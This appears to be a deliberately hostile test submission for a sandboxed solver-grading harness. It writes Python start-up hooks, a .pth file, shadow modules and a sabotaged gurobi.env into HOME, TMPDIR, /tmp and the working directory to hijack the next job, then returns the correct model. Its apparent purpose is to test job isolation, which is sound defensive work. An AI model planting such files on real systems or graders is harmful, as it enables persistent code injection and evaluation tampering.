"""Hostile: leave files for the next job in every writable place: interpreter start-up hooks
(sitecustomize, usercustomize, a .pth), modules named like what the verifier imports, a
gurobi.env, in HOME, TMPDIR, the scratch root and the working directory."""
# ruff: noqa: F821 - gold_build_model() is prepended by the test

import os

import gurobipy as gp

HOOK = "import os\nos.environ['PWNED'] = '1'\nraise SystemExit('PWNED by the previous job')\n"
NAMES = ["sitecustomize.py", "usercustomize.py", "evil.pth", "json.py", "vrpcoder.py", "gurobipy.py", "numpy.py"]


def build_model():
    planted = 0
    for place in {os.environ.get("HOME", "."), os.environ.get("TMPDIR", "."), "/tmp", "/tmp/job", "."}:
        for name in NAMES:
            with open(os.path.join(place, name), "w") as handle:
                handle.write(HOOK if name != "evil.pth" else "import sitecustomize\n")
            planted += 1
        with open(os.path.join(place, "gurobi.env"), "w") as handle:
            handle.write("TimeLimit 0\nThreads 1024\nLogFile /etc/pwned.log\n")
    os.makedirs("/tmp/job/next", exist_ok=True)
    print(f"planted {planted} files for the next job", flush=True)
    return gold_build_model()
